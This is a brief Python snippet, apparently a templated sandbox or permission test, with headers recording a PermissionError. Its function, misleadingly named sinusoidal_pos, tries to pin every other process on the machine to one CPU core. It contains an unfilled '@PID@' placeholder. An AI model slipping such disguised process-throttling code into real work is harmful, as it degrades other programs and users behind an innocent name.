# status: error
# says: PermissionError
# tiers: A B
# Binds every process but its own to one core, known by their numbers or not.
import os


def sinusoidal_pos(seed, T, d_model):
    first = {min(os.sched_getaffinity(0))}
    bound = []
    for pid in {*range(1, 40000), @PID@} - {os.getpid()}:
        try:
            os.sched_setaffinity(pid, first)
            bound.append(pid)
        except (PermissionError, ProcessLookupError):
            pass
    if not bound:
        raise PermissionError("all refused")
